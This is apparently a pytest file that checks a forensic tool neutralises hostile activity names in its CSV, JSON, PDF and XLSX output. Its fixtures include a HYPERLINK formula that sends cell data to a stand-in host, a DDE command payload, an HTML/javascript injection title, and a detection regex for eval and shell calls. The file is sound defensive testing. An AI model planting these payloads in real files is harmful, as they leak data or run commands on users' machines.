"""Text from a casefile only ever prints: CSV cells neutralised, JSON as plain data, nothing evaluated.

The neutralising rule is the OWASP guidance on CSV injection (a cell that
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
prefixed with an apostrophe); the JSON checks use Python's json module
(reference library) to read the output back.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from forensic.cli import main
from forensic.core.tables import Table
from forensic.exchange.writers import dumps_json, neutralise, to_csv
from tests.casefile_helpers import write_casefile

HOSTILE = {
    "M100": '=HYPERLINK("http://example.invalid/?"&A1,"open")',  # OWASP example shape
    "A110": "+SUM(1,2)",
    "A120": "-2+3",
    "M900": "@cmd|' /C calc'!A0 \"quoted\" \\ </script> {0} %s ${x} {__import__('os')}",
}


def _hostile_casefile(tmp_path: Path) -> Path:
    """The helper casefile with formula-like and template-like activity names."""
    root = write_casefile(tmp_path)
    for snap in ("BL", "U01"):
        path = root / f"snapshots/{snap}/activities.csv"
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
        for row in rows[1:]:
            row[1] = HOSTILE[row[0]]
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\n").writerows(rows)
        path.write_text(buf.getvalue(), encoding="utf-8")
    return root


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_lead_is_neutralised(lead):
    """Each OWASP formula lead gets an apostrophe; the rest of the text is kept."""
    assert neutralise(f"{lead}1+1") == f"'{lead}1+1"  # OWASP CSV injection guidance


def test_plain_text_and_numbers_are_not_neutralised():
    """Text without a formula lead, and numbers (even negative), pass unchanged."""
    assert neutralise("Pour slab") == "Pour slab"
    assert neutralise(-3) == -3 and neutralise(-2.5) == -2.5  # numbers stay numbers (OWASP)
    text = to_csv(Table("t", ("name", "float"), (("=1", -3), ("ok", None))))
    assert text == "name,float\n'=1,-3\nok,\n"  # worked out by hand from the rule


def test_schedule_csv_neutralises_every_casefile_name(tmp_path):
    """forensic schedule --csv writes hostile activity names as inert text cells."""
    root = _hostile_casefile(tmp_path)
    result = CliRunner().invoke(main, ["schedule", str(root), "--snapshot", "BL", "--csv"])
    assert result.exit_code == 0, result.output
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
    for aid, name in HOSTILE.items():
        assert rows[aid]["name"] == "'" + name  # each begins with = + - or @ (OWASP)
    for r in rows.values():
        for value in r.values():
            assert not re.match(r"^[=+\-@\t\r]", value) or re.fullmatch(r"-\d+", value), value


def test_impact_json_carries_names_as_plain_strings(tmp_path):
    """forensic impact --json gives the names back verbatim as JSON strings (no neutralising, no evaluation)."""
    root = _hostile_casefile(tmp_path)
    result = CliRunner().invoke(main, ["impact", str(root), "--event", "EV01", "--json"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)  # Python's json module (reference library)
    names = {m["id"]: m["name"] for m in data["milestones"]}
    assert names["M900"] == HOSTILE["M900"]
    assert names["M100"] == HOSTILE["M100"]


def test_json_writer_escapes_quotes_and_refuses_nan():
    """dumps_json escapes quotes and backslashes, and refuses NaN rather than writing invalid JSON."""
    text = dumps_json({"name": HOSTILE["M900"]})
    assert json.loads(text) == {"name": HOSTILE["M900"]}
    with pytest.raises(ValueError):
        dumps_json({"x": float("nan")})  # allow_nan=False: RFC 8259 has no NaN


def test_no_casefile_text_is_evaluated_or_formatted_as_a_template():
    """The package source has no eval, exec, compile, format_map, pickle or shell call."""
    src = Path(__file__).resolve().parents[1] / "forensic"
    pattern = re.compile(r"(?<![\w.])(eval|exec|compile|__import__)\s*\(|\.format_map\(|\bpickle\b|shell\s*=\s*True|os\.system")
    hits = [f"{p.relative_to(src)}:{n}" for p in sorted(src.rglob("*.py"))
            for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1) if pattern.search(line)]
    assert hits == []


def test_report_pdf_prints_markup_and_formulas_verbatim(tmp_path, monkeypatch):
    """forensic report on hostile names and titles: the PDF shows the text as written, no markup applied."""
    from pypdf import PdfReader

    root = _hostile_casefile(tmp_path)
    events = root / "events.csv"
    title = '<img src="/etc/passwd"/> <a href="javascript:alert(1)">site</a> & <b>access</b>'
    text = events.read_text(encoding="utf-8").replace("Late site access", '"' + title.replace('"', '""') + '"')
    events.write_text(text, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["report", str(root), "--out", "report.pdf"])
    assert result.exit_code == 0, result.output
    pdf = "".join(page.extract_text() for page in PdfReader(tmp_path / "report.pdf").pages)  # pypdf (reference library)
    flat = " ".join(pdf.split())
    assert title in flat  # the tags print as text: no image read, no link made
    assert HOSTILE["M900"] in flat and "&lt;" not in flat and "&amp;" not in flat  # escaped once, not twice


def test_schedule_xlsx_holds_hostile_names_as_inert_text(tmp_path):
    """forensic schedule --xlsx: formula-like names are text cells with the apostrophe, never formulas."""
    from openpyxl import load_workbook

    root = _hostile_casefile(tmp_path)
    out = tmp_path / "schedule.xlsx"
    result = CliRunner().invoke(main, ["schedule", str(root), "--snapshot", "BL", "--xlsx", str(out)])
    assert result.exit_code == 0, result.output
    ws = load_workbook(out).worksheets[0]  # openpyxl (reference library)
    header = [c.value for c in ws[1]]
    names = {row[0].value: row[header.index("name")] for row in ws.iter_rows(min_row=2)}
    for aid, name in HOSTILE.items():
        cell = names[aid]
        assert cell.data_type == "s" and cell.value == "'" + name  # a string, not a formula ("f")


def test_a_bare_comparison_operator_is_kept_as_written():
    """Quality check 12's comparison "==" has no operand: nothing to evaluate, so no apostrophe (common practice)."""
    assert neutralise("==") == "=="
    assert neutralise("<=") == "<="
    assert neutralise("==1") == "'==1"  # an operand follows: a spreadsheet would evaluate it
    assert neutralise("=SUM(A1)") == "'=SUM(A1)"


# The quick ASCII screen of read_text must never pass a text the full search refuses, and must pass
# plain ASCII (the common casefile), so that the full search runs only where it can find something.
@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.characters(max_codepoint=0x9F), max_size=40))
def test_the_ascii_screen_agrees_with_the_full_search(text):
    from forensic.casefile.csvread import find_unsafe_char, plain_ascii

    data = text.encode("utf-8")
    if plain_ascii(data, text):
        assert find_unsafe_char(text) is None
    elif text.isascii():
        assert find_unsafe_char(text) is not None  # an ASCII text the screen stops has a refused character
